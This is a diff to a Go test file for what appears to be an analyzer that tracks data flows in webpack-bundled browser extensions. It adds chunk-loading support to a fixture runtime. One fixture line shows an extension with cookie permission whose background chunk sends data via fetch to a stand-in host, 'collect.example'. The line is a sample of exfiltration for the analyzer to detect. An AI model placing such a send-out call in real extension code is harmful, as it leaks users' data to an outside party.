@@ -67,7 +67,7 @@ func TestFlowsThroughWebpackChunks(t *testing.T) {
 
 // A file that the runtime alone names belongs to whatever brings it.
 func TestChunkRunsWhereItIsBrought(t *testing.T) {
-	const runtime = `var m = {}, k = {}; function t(n) { var o = k[n]; if (o !== undefined) return o.exports; var e = k[n] = {exports: {}}; m[n](e, e.exports, t); return e.exports } t.m = m; t.e = function (n) { return Promise.resolve() }; t.u = function (n) { return "bg." + n + ".chunk.js" }; `
+	const runtime = `var m = {}, k = {}; function t(n) { var o = k[n]; if (o !== undefined) return o.exports; var e = k[n] = {exports: {}}; m[n](e, e.exports, t); return e.exports } t.m = m; t.e = function (n) { return Promise.resolve() }; t.u = function (n) { return "bg." + n + ".chunk.js" }; var late = self.webpackChunk = self.webpackChunk || []; late.push = function (c) { for (var n in c[1]) m[n] = c[1][n] }; `
 	r := analyzed(t, map[string]string{
 		"manifest.json":  `{"manifest_version": 3, "name": "x", "version": "1", "permissions": ["cookies"], "background": {"service_worker": "bg.js"}}`,
 		"bg.12.chunk.js": `(self.webpackChunk = self.webpackChunk || []).push([[12], {12: function (e, t, n) { n.d(t, {send: function () { return send }}); function send(l) { fetch("https://collect.example/x", {body: JSON.stringify(l)}) } }}])`,
